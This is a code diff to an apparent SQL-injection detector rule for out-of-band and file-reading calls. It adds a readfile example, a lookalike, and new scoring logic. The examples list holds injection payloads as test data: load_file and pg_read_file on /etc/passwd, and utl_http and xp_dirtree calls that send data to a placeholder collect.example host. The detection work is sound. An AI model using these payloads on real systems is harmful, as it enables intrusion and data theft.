@@ -7,7 +7,7 @@ import {
 } from '../../grammars/sql/sql-token.ts';
 import { sqlWord } from '../../grammars/sql/sql-words.ts';
 import { isStatementEnd, isWordAt } from '../../grammars/sql/statement-parts.ts';
-import { hasAny } from '../../grammars/sql/traits.ts';
+import { hasAny, trait } from '../../grammars/sql/traits.ts';
 import { outsideTrigger } from '../../grammars/sql/triggers.ts';
 import { confidence } from '../../placement/confidence.ts';
 import {
@@ -29,12 +29,14 @@ export const outOfBand: ValueRule = {
   trigger: outsideTrigger,
   judge: (subject) => strongestCall(subject, outsideClasses, scoreOf),
   examples: [
+    "(readfile(nullif('','')))",
     ...["(load_extension( ('x.so') ) )", "1 union select load_file('/etc/passwd')"],
     "'||utl_http.request('http://collect.example/'||user)||'",
     "exec master..xp_dirtree '\\\\\\\\collect.example\\\\x'",
     "1 and pg_read_file('/etc/passwd')='x'",
   ],
   lookalikes: [
+    "readfile(join('a','b'))",
     'The xp_cmdshell procedure is off by default.',
     ...['load_file and dblink are names of functions', 'Call readfile to read a file'],
     '- Improved `examples/readfile.c`\n- Reworked (re)allocation',
@@ -56,7 +58,10 @@ function scoreOf(call: Call, tokens: SqlTokens): number {
   while (tokens.kind[inner] === sqlToken.open) inner = skipComments(tokens, inner + 1);
   const first = tokens.kind[inner] as number;
   if (isQuote(first) || first === sqlToken.number) return confidence.certain;
-  return hasAny(call.expression, sqlArgument) ? confidence.certain : confidence.hint;
+  // `readfile(nullif('',''))`: functions of SQL and constants
+  const { traits, calls } = call.expression;
+  const isFixed = calls > 1 && (traits & trait.name) === 0;
+  return isFixed || hasAny(call.expression, sqlArgument) ? confidence.certain : confidence.hint;
 }
 
 /** `fs.readFile('a.txt', …)`, `os.WriteFile(…)`: methods; SQLite's READFILE belongs to nothing. */
